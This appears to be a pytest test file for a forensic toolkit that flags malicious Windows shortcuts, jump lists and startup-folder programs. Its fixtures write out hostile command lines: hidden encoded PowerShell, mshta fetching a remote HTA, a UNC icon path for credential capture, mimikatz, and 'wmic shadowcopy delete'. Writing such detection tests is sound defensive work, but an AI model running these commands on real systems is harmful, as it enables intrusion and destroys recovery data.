"""Shortcuts, jump lists and start folders: what is a finding, what is only in the timeline, what a damaged file costs."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest

from forensic_toolkit.readers.coverage import Coverage
from forensic_toolkit.results import Finding, Results
from forensic_toolkit.rules import artifacts, shortcut_rules
from forensic_toolkit.times import now
from tests.toolkit import shortcut_blobs as blobs
from tests.toolkit.examined import NO_TOOLS, ROOT, TOOLS, run
from tests.toolkit.fake_tree import LATER, Builder

MENU = "AppData/Roaming/Microsoft/Windows/Start Menu/Programs"
START, DESKTOP, RECENT = (
    f"/Users/kim/{MENU}/Startup",
    "/Users/kim/Desktop",
    "/Users/kim/AppData/Roaming/Microsoft/Windows/Recent",
)
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


def _examined(builder: Builder) -> tuple[list[Finding], Results, Coverage]:
    results, coverage = Results("fc-20260101-0123456789", "disk-1", "disk", started=now()), Coverage()
    tree = builder.tree()
    results.apply(shortcut_rules.RULE, rule=lambda: shortcut_rules.findings(tree, coverage=coverage, results=results))
    coverage.report(results)
    results.artifacts = artifacts.states(tree, results=results, kinds=shortcut_rules.KINDS)
    return results.findings, results, coverage


@pytest.mark.parametrize(
    ("path", "raw", "technique", "word"),
    [
        (f"{START}/sync.lnk", blobs.link(POWERSHELL, "-w hidden -enc SQBFAFgA"), "T1547.001", "encoded"),
        (f"{START}/sync.lnk", blobs.link(r"C:\Users\Public\svc.exe"), "T1547.001", "every user may write"),
        (f"{START}/sync.lnk", blobs.link(items=r"C:\ProgramData\svc.exe"), "T1547.001", "every user may write"),
        ("/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/a.LNK", blobs.link("C:\\x.exe", machine="k"), "T1547.001", "write"),
        (f"{DESKTOP}/Mail.lnk", blobs.link(r"C:\Windows\System32\mshta.exe", "http://203.0.113.9/a.hta"), "T1547.009", "remote"),
        (f"{DESKTOP}/Mail.lnk", blobs.link(POWERSHELL, " " * 300 + "-c calc"), "T1547.009", "out of sight"),
        (f"{DESKTOP}/Mail.lnk", blobs.link(variables=POWERSHELL, arguments="-enc SQBFAFgA"), "T1547.009", "encoded"),
        ("/Users/kim/Downloads/Invoice.pdf.lnk", blobs.link(POWERSHELL, "-enc SQBFAFgA"), "T1204.002", "encoded"),
    ],
)  # fmt: skip
def test_shortcuts_that_start_suspicious_commands(path: str, raw: bytes, technique: str, word: str) -> None:
    (finding,), results, _ = _examined(Builder().add(path, raw))
    assert (finding.technique, finding.severity, finding.source, finding.time) == (technique, "high", path, LATER)
    assert word in finding.detail
    assert results.gaps == []


@pytest.mark.parametrize(
    ("raw", "technique"),
    [
        (blobs.link(r"C:\Docs\plan.docx", icon="\\\\203.0.113.9\\s\\a.ico"), "T1187"),
        (blobs.link(r"C:\Docs\plan.docx") + bytes(9000), "T1027.012"),
    ],
)
def test_shortcuts_that_smuggle(raw: bytes, technique: str) -> None:
    (finding,), _, _ = _examined(Builder().add(f"{DESKTOP}/plan.lnk", raw))
    assert (finding.technique, finding.severity) == (technique, "medium")


def test_a_users_everyday_is_in_the_timeline_alone() -> None:
    builder = Builder().add(f"{RECENT}/plan.lnk", blobs.link(r"C:\Docs\plan.docx", created=LATER))
    builder.add(f"{RECENT}/share.lnk", blobs.link("x\\plan.docx", share="\\\\files\\team"))
    builder.add(f"{RECENT}/notes.lnk", blobs.link(r"C:\ProgramData\app\notes.txt"))
    builder.add(f"/Users/kim/{MENU}/Zoom.lnk", blobs.link(r"C:\Users\kim\AppData\Roaming\Zoom\bin\Zoom.exe"))
    builder.add(f"{DESKTOP}/PowerShell.lnk", blobs.link(POWERSHELL))
    builder.add(f"{START}/OneNote.lnk", blobs.link(r"C:\Program Files\Office\ONENOTEM.EXE", "/tsr"))
    builder.add(f"{START}/desktop.ini", b"[.ShellClassInfo]")
    found, results, coverage = _examined(builder)
    assert found == [] and results.gaps == []
    said = {event.what for event in results.events if event.notable}
    assert said >= {"kim opened C:\\Docs\\plan.docx", "kim opened \\\\files\\team\\x\\plan.docx"}
    assert "Shortcut in a start folder written: C:\\Program Files\\Office\\ONENOTEM.EXE /tsr" in said
    assert (coverage.artifacts[0].lines, coverage.artifacts[0].parsed) == (6, 6)
    assert {item["name"]: item["state"] for item in results.artifacts}["Windows shortcuts"] == "examined"


def test_programs_in_odd_places_and_tools_that_a_user_opened() -> None:
    builder = Builder().add(f"{RECENT}/svc.lnk", blobs.link(r"C:\Users\Public\svc.exe"))
    tool = r"E:\tools\mimikatz.exe"
    plan = r"C:\Docs\plan.docx"
    builder.add(
        f"{RECENT}/AutomaticDestinations/a.automaticDestinations-ms",
        blobs.destinations(
            [(tool, LATER - timedelta(hours=1), 2, blobs.link(tool)), (plan, LATER, 1, blobs.link(plan))]
        ),
    )
    found, results, _ = _examined(builder)
    assert {(finding.severity, finding.technique, finding.title) for finding in found} == {
        ("medium", "T1204.002", "Opened by kim: svc.exe"),
        ("high", "T1204.002", "Opened by kim: mimikatz.exe"),
    }
    assert any(event.what == f"kim opened {tool} (2 times in all)" for event in results.events)


def test_where_a_user_went_by_remote_desktop() -> None:
    mstsc = r"C:\Windows\System32\mstsc.exe"
    raw = blobs.destinations([(mstsc, LATER, 3, blobs.link(mstsc, '/v:"10.0.4.7"'))])
    path = f"{RECENT}/AutomaticDestinations/1bc392b8e104a00e.automaticDestinations-ms"
    found, results, _ = _examined(Builder().add(path, raw))
    assert found == []
    assert (LATER, "kim connected by Remote Desktop to 10.0.4.7 (3 times in all)") in {
        (e.time, e.what) for e in results.events
    }


@pytest.mark.parametrize(
    ("name", "content", "severity"),
    [
        ("run.bat", b"@echo off\r\npowershell -w hidden -enc SQBFAFgA\r\n", "high"),
        ("run.vbs", "\ufeffCreateObject(\"x\")".encode("utf-16-le"), "medium"),
        ("update.exe", b"MZ", "medium"),
        ("psexesvc.exe", b"MZ", "high"),
    ],
)  # fmt: skip
def test_programs_that_lie_in_a_start_folder(name: str, content: bytes, severity: str) -> None:
    (finding,), _, _ = _examined(Builder().add(f"{START}/{name}", content))
    assert (finding.technique, finding.severity) == ("T1547.001", severity)


def test_a_damaged_file_costs_itself_and_is_counted() -> None:
    builder = (
        Builder().add(f"{DESKTOP}/a.lnk", b"garbage").add(f"{DESKTOP}/b.lnk", blobs.link(POWERSHELL, "-enc SQBFAFgA"))
    )
    builder.add(f"{RECENT}/CustomDestinations/c.customDestinations-ms", bytes(500))
    builder.add(f"{RECENT}/AutomaticDestinations/d.automaticDestinations-ms", bytes(500))
    found, results, coverage = _examined(builder)
    assert len(found) == 1
    why = [text for _, text in results.gaps]
    assert (
        any("a.lnk is no shortcut" in text for text in why)
        and sum("jump list" in text or "compound" in text for text in why) == 2
    )
    assert (coverage.artifacts[0].lines, coverage.artifacts[0].parsed) == (2, 1)
    states = {item["name"]: item["state"] for item in results.artifacts}
    assert states["jump lists"] == "unreadable"


_BY_RULES = """
import json, sys
sys.path.insert(0, sys.argv[1])
from forensic_toolkit.readers.coverage import Coverage
from forensic_toolkit.results import Results
from forensic_toolkit.rules import shortcut_rules
from forensic_toolkit.times import now
from tests.toolkit import shortcut_blobs as blobs
from tests.toolkit.fake_tree import Builder
results = Results("fc-20260101-0123456789", "disk-1", "disk", started=now())
raw = blobs.link(r"C:\\Windows\\System32\\wbem\\wmic.exe", "shadowcopy delete /nointeractive")
tree = Builder().add("/Users/kim/Desktop/Help.lnk", raw).tree()
found = list(shortcut_rules.findings(tree, coverage=Coverage(), results=results))
print(json.dumps([[f.technique, f.title, f.source] for f in found] + results.gaps))
"""


@pytest.mark.skipif(not TOOLS.exists(), reason=NO_TOOLS)
def test_a_shells_arguments_are_held_against_the_rules_for_started_programs() -> None:
    found = json.loads(run(_BY_RULES, str(ROOT)))
    assert any(t == "T1490" and "(shortcut Help.lnk, kim)" in title for t, title, _ in found), found
